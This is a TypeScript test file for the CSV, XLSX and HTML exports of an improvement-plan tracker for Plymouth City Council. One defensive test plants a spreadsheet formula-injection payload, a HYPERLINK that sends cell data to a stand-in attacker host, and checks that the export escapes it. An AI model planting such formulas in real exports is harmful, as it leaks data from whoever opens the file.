import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { BRAG_COLOURS } from '../../src/domain/brag';
import { fixedClock } from '../../src/domain/clock';
import { exportPlan } from '../../src/export';
import { importPlan } from '../../src/import';
import { raiseEscalation } from '../../src/escalation/raise';
import type { Store } from '../../src/storage/store';
import { makeTestStore } from '../support/store';
import { copyFixture, editRows, FIXTURE } from '../import/helpers';

const PLAN = 'plymouth-2023';
const clock = fixedClock('2024-01-15T09:00:00Z');
let store: Store;

beforeAll(async () => {
  store = await makeTestStore();
  const result = await importPlan(store, FIXTURE, { timeZone: 'Europe/London', clock: fixedClock('2023-10-02T09:00:00Z') });
  if (!result.ok) throw new Error(result.problems.join('\n'));
});

async function recordUpdate(ref: string, brag: 'amber' | 'red' | 'green', narrative: string, at: string) {
  await store.updates.append({
    planId: PLAN, ref, id: `u-${ref}-${at}`, submissionId: `s-${ref}-${at}`, brag, narrative, evidence: ['data'],
    escalate: false, authorId: 'ap@plymouth.example', at,
  });
  await store.plans.modifyAction(PLAN, ref, (a) => ({ ...a, brag, lastUpdateAt: at, lastUpdateBy: 'ap@plymouth.example', updateCount: a.updateCount + 1 }));
}

describe('CSV export', () => {
  it('starts with the contract columns and gives one row per action', async () => {
    const csv = (await exportPlan(store, PLAN, 'csv', clock, { timeZone: 'Europe/London' })) as string;
    const rows = parse(csv) as string[][];
    expect(rows[0]!.slice(0, 12)).toEqual([
      'ref', 'area', 'group', 'action', 'leads', 'start', 'due', 'brag', 'last_update', 'updates', 'overdue', 'open_escalations',
    ]);
    expect(rows).toHaveLength(77);
    const byRef = new Map(rows.slice(1).map((r) => [r[0]!, r]));
    expect(byRef.get('1.1')!.slice(0, 12)).toEqual([
      '1.1', '1', 'Governance, oversight, culture and workforce', expect.stringMatching(/^Leaders within Plymouth City Council/),
      'CEX PCC (TL) | DCS PCC (DH)', '2023-08-01', '2023-12-29', 'unrated', '', '0', 'yes', '0',
    ]);
    // Complete actions are never overdue; 7.5 is green with no due date.
    expect(byRef.get('7.5')!.slice(6, 12)).toEqual(['', 'green', '', '0', 'no', '0']);
    // Due in the future: not overdue.
    expect(byRef.get('9.5')![10]).toBe('no');
  });

  it('shows the live BRAG, last update, update count, latest narrative and open escalations', async () => {
    await recordUpdate('2.4', 'amber', 'Protocol drafted, waiting for ICB sign-off', '2024-01-10T11:00:00.000Z');
    const csv = (await exportPlan(store, PLAN, 'csv', clock, {
      timeZone: 'Europe/London',
      openEscalationCount: (planId, ref) => (planId === PLAN && ref === '2.4' ? 2 : 0),
    })) as string;
    const [header, ...rows] = parse(csv) as string[][];
    const row = rows.find((r) => r[0] === '2.4')!;
    const col = (name: string) => row[header!.indexOf(name)];
    expect([col('brag'), col('last_update'), col('updates'), col('open_escalations')]).toEqual(['amber', '2024-01-10', '1', '2']);
    expect(col('last_narrative')).toBe('Protocol drafted, waiting for ICB sign-off');
    expect(col('next_due')).toBe('2023-10-04');
  });

  it('counts the open escalations stored for each action when no count is given', async () => {
    const raise = (occasion: string) =>
      raiseEscalation(store, { planId: PLAN, ref: '3.5', cause: 'leadRequest', occasion, reason: 'The lead asked for help.', raisedBy: 'jb@plymouth.example' }, clock);
    await raise('u-first');
    await raise('u-second');
    await raise('u-second'); // the same cause again is not a new escalation
    const [header, ...rows] = parse((await exportPlan(store, PLAN, 'csv', clock, { timeZone: 'Europe/London' })) as string) as string[][];
    const open = (ref: string) => rows.find((r) => r[0] === ref)![header!.indexOf('open_escalations')];
    expect(open('3.5')).toBe('2');
    expect(open('3.4')).toBe('0');
  });

  it('round-trips: importing the exported CSV with the same people and groups gives the same actions', async () => {
    const fresh = await makeTestStore();
    await importPlan(fresh, FIXTURE, { timeZone: 'Europe/London', clock });
    const dir = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'pp-roundtrip-')), 'again');
    fs.mkdirSync(dir);
    fs.writeFileSync(path.join(dir, 'actions.csv'), (await exportPlan(fresh, PLAN, 'csv', clock, { timeZone: 'Europe/London' })) as string);
    fs.copyFileSync(path.join(FIXTURE, 'people.csv'), path.join(dir, 'people.csv'));
    fs.copyFileSync(path.join(FIXTURE, 'groups.csv'), path.join(dir, 'groups.csv'));
    const result = await importPlan(fresh, dir, { timeZone: 'Europe/London', clock, newPlan: true });
    if (!result.ok) throw new Error(result.problems.join('\n'));
    const strip = <T extends { planId: string }>(rows: T[]) => rows.map(({ planId: _p, ...rest }) => rest);
    expect(strip(await fresh.plans.listActions('again'))).toEqual(strip(await fresh.plans.listActions(PLAN)));
    expect(strip(await fresh.plans.listAreas('again'))).toEqual(strip(await fresh.plans.listAreas(PLAN)));
  });
});

describe('XLSX export', () => {
  it('lays the plan out as a tracker with BRAG cells filled in their colours', async () => {
    await recordUpdate('3.2', 'red', 'No progress: waiting for funding', '2024-01-11T11:00:00.000Z');
    const bytes = (await exportPlan(store, PLAN, 'xlsx', clock, { timeZone: 'Europe/London' })) as Buffer;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Tracker')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 7)).toEqual(['Ref', 'Action', 'Leads', 'Group', 'Start', 'Due', 'BRAG']);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getColumn(2).width).toBe(60);
    const bragCol = header.indexOf('BRAG') + 1;
    const rowOf = (ref: string) => {
      let found: ExcelJS.Row | undefined;
      sheet.eachRow((row) => {
        if (row.getCell(1).value === ref) found = row;
      });
      return found!;
    };
    const argb = (ref: string) => ((rowOf(ref).getCell(bragCol).fill as ExcelJS.FillPattern).fgColor?.argb ?? '').toUpperCase();
    expect(argb('2.4')).toBe(`FF${BRAG_COLOURS.amber.slice(1)}`.toUpperCase());
    expect(argb('3.2')).toBe(`FF${BRAG_COLOURS.red.slice(1)}`.toUpperCase());
    expect(argb('7.5')).toBe(`FF${BRAG_COLOURS.green.slice(1)}`.toUpperCase());
    expect(argb('1.1')).toBe(`FF${BRAG_COLOURS.unrated.slice(1)}`.toUpperCase());
    expect(sheet.getRow(2).getCell(1).value).toMatch(/^Area 1: Leaders, including Plymouth City Council/);
    // Not merged: merged cells in a filtered range stop Excel sorting it.
    expect(sheet.getRow(2).getCell(1).isMerged).toBe(false);
    expect(sheet.getRow(3).getCell(1).value).toBe('1.1');
    const whole = wb.getWorksheet('Summary')!.lastRow!;
    expect(whole.getCell(1).value).toBe('Whole plan');
    expect((whole.getCell(8).value as ExcelJS.CellFormulaValue).result).toBe(76);
  });

  it('gives real date cells, an autofilter, BRAG as a list to pick from and summary counts as formulas', async () => {
    const bytes = (await exportPlan(store, PLAN, 'xlsx', clock, { timeZone: 'Europe/London' })) as Buffer;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Tracker')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const col = (name: string) => header.indexOf(name) + 1;
    const row11 = sheet.getRow(3);
    expect(row11.getCell(1).value).toBe('1.1');
    // 1.1 is due in December 2023: its last working day, as a date cell shown the UK way.
    expect(row11.getCell(col('Due')).value).toEqual(new Date('2023-12-29T00:00:00.000Z'));
    expect(row11.getCell(col('Due')).numFmt).toBe('d mmm yyyy');
    expect(row11.getCell(col('Start')).value).toEqual(new Date('2023-08-01T00:00:00.000Z'));
    expect(row11.getCell(col('Overdue')).value).toBe(17);
    expect(row11.getCell(col('Overdue')).numFmt).toBe('0 "days"');
    expect(sheet.autoFilter).toBe(`A1:O${sheet.rowCount}`);
    expect(header).toHaveLength(15);
    expect(row11.getCell(col('BRAG')).dataValidation).toMatchObject({
      type: 'list',
      formulae: ['"Blue,Green,Amber,Red,Unrated"'],
      showErrorMessage: true,
    });

    // Each count is a COUNTIFS over the Tracker, and its cached result is what the Tracker holds.
    const summary = wb.getWorksheet('Summary')!;
    const labels = (summary.getRow(1).values as unknown[]).slice(1) as string[];
    const trackerRows: { group: string; brag: string; overdue: unknown }[] = [];
    sheet.eachRow((r, n) => {
      if (n > 1 && r.getCell(col('BRAG')).value) {
        trackerRows.push({ group: String(r.getCell(col('Group')).value), brag: String(r.getCell(col('BRAG')).value), overdue: r.getCell(col('Overdue')).value });
      }
    });
    let inclusion!: ExcelJS.Row;
    summary.eachRow((r) => {
      if (r.getCell(1).value === 'Inclusion') inclusion = r;
    });
    const amber = inclusion.getCell(labels.indexOf('Amber') + 1).value as ExcelJS.CellFormulaValue;
    expect(amber.formula).toBe(`COUNTIFS(Tracker!$D$2:$D$${sheet.rowCount},$A${inclusion.number},Tracker!$G$2:$G$${sheet.rowCount},"Amber")`);
    // The file holds <v>0</v> for a zero count; exceljs reads a cached 0 back as no result.
    for (const label of ['Blue', 'Green', 'Amber', 'Red', 'Unrated']) {
      const cell = inclusion.getCell(labels.indexOf(label) + 1).value as ExcelJS.CellFormulaValue;
      expect(cell.formula).toMatch(/^COUNTIFS\(/);
      expect(cell.result ?? 0).toBe(trackerRows.filter((r) => r.group === 'Inclusion' && r.brag === label).length);
    }
    const overdue = inclusion.getCell(labels.indexOf('Overdue') + 1).value as ExcelJS.CellFormulaValue;
    expect(overdue.formula).toMatch(/^COUNTIFS\(Tracker!\$D\$2:\$D\$\d+,\$A\d+,Tracker!\$K\$2:\$K\$\d+,">0"\)$/);
    expect(overdue.result ?? 0).toBe(trackerRows.filter((r) => r.group === 'Inclusion' && typeof r.overdue === 'number').length);
    expect((summary.lastRow!.getCell(2).value as ExcelJS.CellFormulaValue).formula).toMatch(/^SUM\(B2:B\d+\)$/);
  });
});

describe('CSV export safe to open', () => {
  it('writes cells a spreadsheet would run as formulas with a leading apostrophe, and re-imports them unchanged', async () => {
    const fresh = await makeTestStore();
    const src = copyFixture();
    editRows(src, 'actions.csv', (rows) => {
      const at = (ref: string) => rows.find((r) => r.ref === ref)!;
      at('1.1').action = '=HYPERLINK("https://evil.example/?q="&A1,"Click for the minutes")';
      at('1.2').outcome = '+44 more families report being heard';
      at('1.3').note = '-- see the minutes of 3 October';
      at('1.4').evidence_of_impact = '@SUM(1+1)';
      at('1.5').note = 'Safe: =A1 in the middle is not a formula';
    });
    const first = await importPlan(fresh, src, { timeZone: 'Europe/London', clock });
    if (!first.ok) throw new Error(first.problems.join('\n'));
    const csv = (await exportPlan(fresh, PLAN, 'csv', clock, { timeZone: 'Europe/London' })) as string;
    const [header, ...rows] = parse(csv) as string[][];
    const cell = (ref: string, column: string) => rows.find((r) => r[0] === ref)![header!.indexOf(column)];
    expect(cell('1.1', 'action')).toBe('\'=HYPERLINK("https://evil.example/?q="&A1,"Click for the minutes")');
    expect(cell('1.2', 'outcome')).toBe("'+44 more families report being heard");
    expect(cell('1.3', 'note')).toBe("'-- see the minutes of 3 October");
    expect(cell('1.4', 'evidence_of_impact')).toBe("'@SUM(1+1)");
    expect(cell('1.5', 'note')).toBe('Safe: =A1 in the middle is not a formula');
    for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);

    const dir = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'pp-safe-')), 'again');
    fs.mkdirSync(dir);
    fs.writeFileSync(path.join(dir, 'actions.csv'), csv);
    fs.copyFileSync(path.join(src, 'people.csv'), path.join(dir, 'people.csv'));
    fs.copyFileSync(path.join(src, 'groups.csv'), path.join(dir, 'groups.csv'));
    const again = await importPlan(fresh, dir, { timeZone: 'Europe/London', clock, newPlan: true });
    if (!again.ok) throw new Error(again.problems.join('\n'));
    const strip = <T extends { planId: string }>(list: T[]) => list.map(({ planId: _p, ...rest }) => rest);
    expect(strip(await fresh.plans.listActions('again'))).toEqual(strip(await fresh.plans.listActions(PLAN)));
  });
});

describe('HTML export', () => {
  it('is a self-contained board paper with BRAG colours, overdue flags and a chart per group', async () => {
    const html = (await exportPlan(store, PLAN, 'html', clock, { timeZone: 'Europe/London' })) as string;
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(html).not.toMatch(/<(link|script|img)\b/i);
    expect(html).not.toMatch(/(src|href)=["']?https?:/i);
    expect(html).not.toMatch(/url\(/i);
    expect(html).toContain(BRAG_COLOURS.amber);
    expect(html).toContain('<svg');
    expect(html).toMatch(/Overdue \d+ days/);
    expect(html).toContain('Health Wait Lists');
    expect(html).toContain('Latest: Protocol drafted, waiting for ICB sign-off');
    expect(html).toContain('@media print');
    // Text from the plan is escaped.
    expect(html).toContain('Children&#39;s');
  });
});

describe("dates of updates in the plan's time zone", () => {
  // 23:30 UTC on 1 Oct 2023 is 00:30 on 2 Oct in British Summer Time: the plan's day is the 2nd.
  const AT = '2023-10-01T23:30:00.000Z';
  beforeAll(() => recordUpdate('3.1', 'amber', 'Sufficiency review started with the parent carer forum', AT));

  it("writes the last update of an update made at 00:30 BST on the plan's day in CSV", async () => {
    const [header, ...rows] = parse((await exportPlan(store, PLAN, 'csv', clock, { timeZone: 'Europe/London' })) as string) as string[][];
    expect(rows.find((r) => r[0] === '3.1')![header!.indexOf('last_update')]).toBe('2023-10-02');
  });

  it("gives the last update as the plan's day in the XLSX tracker", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await exportPlan(store, PLAN, 'xlsx', clock, { timeZone: 'Europe/London' })) as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Tracker')!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    let row = 2;
    while (sheet.getRow(row).getCell(1).value !== '3.1') row++;
    expect(sheet.getRow(row).getCell(header.indexOf('Last update') + 1).value).toEqual(new Date('2023-10-02T00:00:00.000Z'));
  });

  it("shows the last update on the plan's day in the HTML board paper", async () => {
    const html = (await exportPlan(store, PLAN, 'html', clock, { timeZone: 'Europe/London' })) as string;
    const row = /<tr[^>]*>\s*<td class="ref">3\.1<\/td>[\s\S]*?<\/tr>/.exec(html)![0];
    const seen = row.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');
    expect(seen).toContain('2 Oct 2023 1 update');
    expect(seen).not.toContain('1 Oct 2023');
  });
});
